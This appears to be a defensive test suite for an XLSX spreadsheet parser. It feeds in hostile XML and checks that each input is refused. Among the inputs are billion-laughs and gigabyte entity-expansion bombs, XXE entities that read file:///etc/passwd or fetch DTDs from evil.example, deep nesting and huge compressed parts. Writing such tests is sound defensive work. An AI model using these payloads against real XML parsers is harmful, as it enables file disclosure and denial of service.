import { Buffer } from 'node:buffer'
import { sheetPart, xlsxFile, zipFile } from '../../support/xlsx-file.ts'
import { collect, onePart, packedText, pupilLines, pupils, sheetWith } from './hostile-table.ts'

const { all, refused, read } = collect('xlsx')
export const xmlFiles = all

const lines = ['[Лист1]', ...pupilLines]
const sheetXml = (xml: string | Uint8Array) => xlsxFile({ sheets: [{ name: 'Лист1', xml }] })
const dataXml = (data: string) => xlsxFile({ sheets: [{ name: 'Лист1', data }] })
const textCell = (text: string) => dataXml(`<row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row>`)
const sharedXml = (xml: string) =>
  xlsxFile({
    sheets: [{ name: 'Лист1', data: '<row r="1"><c r="A1" t="s"><v>0</v></c></row>' }],
    sharedStrings: '',
    parts: onePart('xl/sharedStrings.xml', xml),
  })

const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('')
const billion = `<!DOCTYPE x [<!ENTITY lol0 "ха">${laughs}]>`
const [sheetHead, sheetTail] = sheetPart('|').split('|') as [string, string]

// Declarations.
refused('a billion laughs in the shared texts', 'doctypeForbidden', () =>
  sharedXml(`<?xml version="1.0"?>${billion}<sst><si><t>&lol9;</t></si></sst>`),
)
refused('a billion laughs in a sheet', 'doctypeForbidden', () => sheetXml(`${billion}<worksheet>&lol9;</worksheet>`))
refused('a billion laughs in the workbook', 'doctypeForbidden', () =>
  xlsxFile({ sheets: [{ name: 'Лист1', rows: pupils }], parts: onePart('xl/workbook.xml', `${billion}<workbook/>`) }),
)
refused('a billion laughs in the relations', 'doctypeForbidden', () =>
  xlsxFile({ sheets: [{ name: 'Лист1', rows: pupils }], parts: onePart('_rels/.rels', `${billion}<Relationships/>`) }),
)
refused('a billion laughs in the styles', 'doctypeForbidden', () =>
  xlsxFile({ sheets: [{ name: 'Лист1', rows: pupils }], parts: onePart('xl/styles.xml', `${billion}<styleSheet/>`) }),
)
refused('one entity of a gigabyte', 'doctypeForbidden', () =>
  sheetXml(`<!DOCTYPE x [<!ENTITY a "${'а'.repeat(100_000)}">]><worksheet>${'&a;'.repeat(10_000)}</worksheet>`),
)
refused('an entity that is a file', 'doctypeForbidden', () =>
  sharedXml('<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;</t></si></sst>'),
)
refused('an entity on the web', 'doctypeForbidden', () =>
  sharedXml('<!DOCTYPE sst [<!ENTITY x SYSTEM "http://evil.example/x">]><sst><si><t>&x;</t></si></sst>'),
)
refused('an entity of parameters', 'doctypeForbidden', () =>
  sheetXml('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]><worksheet/>'),
)
refused('a declaration on the web', 'doctypeForbidden', () =>
  sheetXml('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><worksheet/>'),
)
refused('a declaration of nothing', 'doctypeForbidden', () => sheetXml('<!DOCTYPE worksheet><worksheet/>'))
refused('a declaration of 40 MB', 'doctypeForbidden', () =>
  zipFile(sheetWith(packedText('<!DOCTYPE x [', '<!ENTITY a "b">', 40, ']><worksheet/>'))),
)
refused('a declaration that never ends', 'xmlBroken', () => sheetXml('<!DOCTYPE x [<!ENTITY a "b'))
refused('a declaration behind the root', 'xmlBroken', () => sheetXml('<worksheet/><!DOCTYPE x>'))
for (const entity of ['constructor', '__proto__', 'toString', 'nbsp', 'a', '#0', '#xD800', '#x110000', '#', ''])
  refused(`the entity &${entity};`, 'xmlBroken', () => textCell(`&${entity};`))
read('the entities of XML itself', ['[Лист1]', '1: A=<b> & "я" \'А\' А😀'], () =>
  textCell('&lt;b&gt; &amp; &quot;я&quot; &apos;&#1040;&apos; &#x410;&#x1F600;'),
)

// Not well-formed.
refused('an empty part', 'xmlBroken', () => sheetXml(''))
refused('no XML', 'xmlBroken', () => sheetXml('это не XML'))
refused('an element that is not closed', 'xmlBroken', () => sheetXml('<worksheet><sheetData><row r="1">'))
refused('elements that cross', 'xmlBroken', () => sheetXml('<worksheet><sheetData></worksheet></sheetData>'))
refused('two roots', 'xmlBroken', () => sheetXml('<worksheet/><worksheet/>'))
refused('an attribute given twice', 'xmlBroken', () => dataXml('<row r="1" r="2"/>'))
refused('an attribute without quotes', 'xmlBroken', () => dataXml('<row r=1/>'))
refused('a part that stops in a tag', 'xmlBroken', () => sheetXml('<worksheet><sheetData><row r="'))
refused('100,000 elements inside of one another', 'xmlBroken', () =>
  dataXml('<a>'.repeat(100_000) + '</a>'.repeat(100_000)),
)
refused('elements inside of one another without end', 'xmlBroken', () =>
  zipFile(sheetWith(packedText(sheetHead, '<a>', 300, sheetTail))),
)
refused('bytes that are no UTF-8', 'xmlBroken', () =>
  sheetXml(
    Buffer.concat([Buffer.from('<worksheet><a>'), Buffer.from([0xc0, 0xaf, 0xff]), Buffer.from('</a></worksheet>')]),
  ),
)
refused('UTF-8 that stops in a letter', 'xmlBroken', () => sheetXml(Buffer.from('<worksheet/>\u044f').subarray(0, -1)))
refused('windows-1251 that says so', 'xmlBroken', () =>
  sheetXml(Buffer.from('<?xml version="1.0" encoding="windows-1251"?><worksheet/>')),
)
refused('UTF-7', 'xmlBroken', () => sheetXml('<?xml version="1.0" encoding="UTF-7"?>+ADw-worksheet/+AD4-'))
refused('a NUL in the XML', 'xmlBroken', () => textCell('Ива\0нов'))
refused('a control character in the XML', 'xmlBroken', () => textCell('Ива\x07нов'))
refused('a control character that XML 1.1 would allow', 'xmlBroken', () =>
  sheetXml('<?xml version="1.1"?><worksheet><a>&#7;</a></worksheet>'),
)

// Too much of nothing.
refused('a comment of 300 MB', 'xmlBroken', () =>
  zipFile(sheetWith(packedText(`${sheetHead}<!--`, '-x', 300, `-->${sheetTail}`))),
)
refused('a comment of a megabyte after each row', 'unpackedTooLarge', () =>
  zipFile(sheetWith(packedText(sheetHead, `<row/><!--${' -x'.repeat(1000)}-->`, 300, sheetTail))),
)
refused('a text of 100 MB', 'xmlBroken', () =>
  zipFile(sheetWith(packedText(`${sheetHead}<x>`, 'я', 100, `</x>${sheetTail}`))),
)
refused('entities of 300 MB', 'unpackedTooLarge', () =>
  zipFile(sheetWith(packedText(sheetHead, `<x>${'&amp;'.repeat(1000)}</x>`, 300, sheetTail))),
)
refused('an attribute of 50 MB', 'xmlBroken', () =>
  zipFile(sheetWith(packedText(`${sheetHead}<x a="`, 'я', 50, `"/>${sheetTail}`))),
)
refused('a name of 50 MB', 'xmlBroken', () =>
  zipFile(sheetWith(packedText(`${sheetHead}<x`, 'я', 50, `/>${sheetTail}`))),
)
refused('half a million attributes of one element', 'xmlBroken', () =>
  dataXml(`<x ${Array.from({ length: 500_000 }, (_, i) => `a${i}=""`).join(' ')}/>`),
)
refused('attributes of 200 MB, spread over elements', 'unpackedTooLarge', () =>
  zipFile(
    sheetWith(
      packedText(
        sheetHead,
        `<x ${Array.from({ length: 50 }, (_, i) => `a${i}="${'x'.repeat(50)}"`).join(' ')}/>`,
        200,
        sheetTail,
      ),
    ),
  ),
)
refused('an instruction of 100 MB', 'xmlBroken', () =>
  zipFile(sheetWith(packedText(`${sheetHead}<?x `, 'я', 100, `?>${sheetTail}`))),
)

// Unusual and right.
read('CDATA, comments and instructions', ['[Лист1]', '1: A=Иванов <b>Иван</b>'], () =>
  textCell('Ива<!-- x -->нов<?y z?> <![CDATA[<b>Иван</b>]]>'),
)
read('prefixes', ['[Лист1]', '1: A=Иванов', '2: A=7'], () =>
  sheetXml(
    '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>Иванов</x:t></x:is></x:c></x:row><x:row r="2"><x:c r="A2"><x:v>7</x:v></x:c></x:row></x:sheetData></x:worksheet>',
  ),
)
read('strict OOXML', lines, () => {
  const strict = (text: string) =>
    text
      .replaceAll(
        'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
        'http://purl.oclc.org/ooxml/officeDocument/relationships',
      )
      .replaceAll(
        'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
        'http://purl.oclc.org/ooxml/spreadsheetml/main',
      )
  return zipFile(sheetWith({}).map(part => ({ ...part, data: strict(String(part.data)) })))
})
read('UTF-16 in every part', lines, () =>
  zipFile(
    sheetWith({}).map(part => ({
      ...part,
      data: Buffer.from(`\ufeff${String(part.data).replace('UTF-8', 'UTF-16')}`, 'utf16le'),
    })),
  ),
)
read('a byte order mark in every part', lines, () =>
  zipFile(sheetWith({}).map(part => ({ ...part, data: `\ufeff${part.data}` }))),
)
read('rows and cells of a foreign extension', lines, () =>
  xlsxFile({
    sheets: [
      {
        name: 'Лист1',
        rows: pupils,
        after: '<extLst><ext><sheetData><row r="1"><c r="A1"><v>9</v></c></row></sheetData></ext></extLst>',
      },
    ],
  }),
)
